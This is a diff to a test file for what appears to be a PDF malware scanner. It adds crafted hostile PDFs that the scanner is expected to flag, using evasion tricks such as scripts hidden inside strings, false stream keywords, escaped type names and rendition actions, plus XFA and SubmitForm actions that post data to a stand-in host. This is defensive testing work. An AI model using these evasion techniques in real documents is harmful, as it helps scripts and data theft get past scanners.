@@ -15,6 +15,7 @@ from .conftest import pdf_bytes
 from .factories import PostFactory
 from .pdf_corpus import (
     XFA_WITH_SCRIPT,
+    XFA_WITH_SUBMIT,
     catalog_and_page,
     incremental_update,
     link_with_script,
@@ -112,6 +113,28 @@ HOSTILE = {
         ),
         "pdf_javascript",
     ),
+    "script object that exists only inside another object's string": (
+        _doc(
+            catalog=b"/OpenAction 5 0 R",
+            extra={4: b"(5 0 obj " + SCRIPT_ACTION + b" endobj)"},
+        ),
+        "pdf_javascript",
+    ),
+    "script behind a false stream keyword inside a string": (
+        _doc(
+            catalog=b"/OpenAction 4 0 R",
+            extra={4: b"<< /T (x >>stream\n) /S /JavaScript /JS (app.alert\\(1\\)) >>"},
+        ),
+        "pdf_javascript",
+    ),
+    "rendition action with a script": (
+        _doc(catalog=rb"/OpenAction << /S /Rendition /OP 4 /JS (app.alert\(1\)) >>"),
+        "pdf_javascript",
+    ),
+    "script in an object stream typed with an escaped name": (
+        _packed({4: SCRIPT_ACTION}, type_name=b"/Obj#53tm", listed=False),
+        "pdf_javascript",
+    ),
     "open action script added by an incremental update": (
         incremental_update(
             _doc(), {1: b"<< /Type /Catalog /Pages 2 0 R /OpenAction " + SCRIPT_ACTION + b" >>"}
@@ -140,6 +163,13 @@ HOSTILE = {
     ),
     "submit form button": (
         _doc(page=_link(b"<< /S /SubmitForm /F << /FS /URL /F (https://evil.example/) >> >>")),
+        "pdf_submit_form",
+    ),
+    "XFA form that submits its data": (
+        _doc(
+            catalog=b"/AcroForm << /Fields [] /XFA [(template) 4 0 R] >>",
+            extra={4: stream(XFA_WITH_SUBMIT, flate=True)},
+        ),
         "pdf_submit_form",
     ),
     "import data action": (
